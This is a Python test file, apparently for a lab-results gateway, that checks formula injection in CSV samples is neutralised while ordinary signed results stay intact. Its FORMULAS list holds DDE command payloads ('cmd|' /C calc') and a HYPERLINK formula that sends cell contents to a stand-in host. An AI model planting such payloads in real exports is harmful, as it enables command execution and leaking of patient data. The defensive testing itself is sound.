"""What a spreadsheet would compute stands in no sample; what is a result stays as it is."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.tabular import TabularAdapter
from gateway.adapter import Payload, propose
from gateway.errors import PayloadError
from gateway.mapping.proposal.formula import computed, harmless

FORMULAS = [
    "=1+2",
    '=HYPERLINK("http://x.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+2",  # as a Japanese keyboard writes it
    " =1",
    "-5 g",
    "+84 912",
]
RESULTS = ["-5.2", "+1", "1,5", "++", "-", "+/-", "<5", "7.2", "", "Âm tính", "a=b", "1:128", "-1.000,5"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_known_and_made_harmless_at_its_length(cell: str) -> None:
    assert computed(cell)
    assert not computed(harmless(cell))
    assert len(harmless(cell)) == len(cell)


@pytest.mark.parametrize("cell", RESULTS)
def test_a_number_signs_alone_and_words_stay_as_they_are(cell: str) -> None:
    assert not computed(cell)
    assert harmless(cell) == cell


@given(st.text(st.sampled_from("=+-@\t\r ＝＋－＠1a|!("), max_size=9))  # full width is meant
def test_whatever_the_cell_is_what_is_made_of_it_is_computed_by_nobody(cell: str) -> None:
    assert not computed(harmless(cell))


def sample_of(table: str) -> list[list[str]]:
    found = propose(TabularAdapter(), Payload(table.encode(), "text/csv"), "lab")
    assert found is not None
    return list(csv.reader(StringIO(found.sample.decode()), delimiter=";"))


@pytest.mark.parametrize("cell", [*FORMULAS[:5], "-5 g"])
@pytest.mark.parametrize("column", range(5))
def test_no_column_of_a_sample_begins_with_a_formula_of_the_export(cell: str, column: int) -> None:
    row = ["BN1", "Lê Ánh", "Glucose", "7,2", "mmol/L"]
    row[column] = '"' + cell.replace('"', '""') + '"'
    for cells in sample_of("Mã BN;Họ và tên;Tên XN;Kết quả;Đơn vị\n" + ";".join(row) + "\n"):
        assert [one for one in cells if one.lstrip(" ")[:1] in tuple("=+-@\t\r") and one] == []


def test_results_with_signs_stand_in_the_sample_as_they_came() -> None:
    table = "Mã BN;Tên XN;Kết quả\nBN1;Protein niệu;++\nBN1;BE;-5,2\nBN1;HBsAg;-\n"
    assert [row[2] for row in sample_of(table)[1:]] == ["++", "-5,2", "-"]


def test_a_column_with_the_name_of_a_formula_is_refused_by_name() -> None:
    with pytest.raises(PayloadError) as refused:
        sample_of("Mã BN;Tên XN;Kết quả;=A1+1\nBN1;Glucose;7;8\n")
    (issue,) = refused.value.issues
    assert (issue.rule, issue.parameters["columns"]) == ("table-header-formula", "=A1+1")
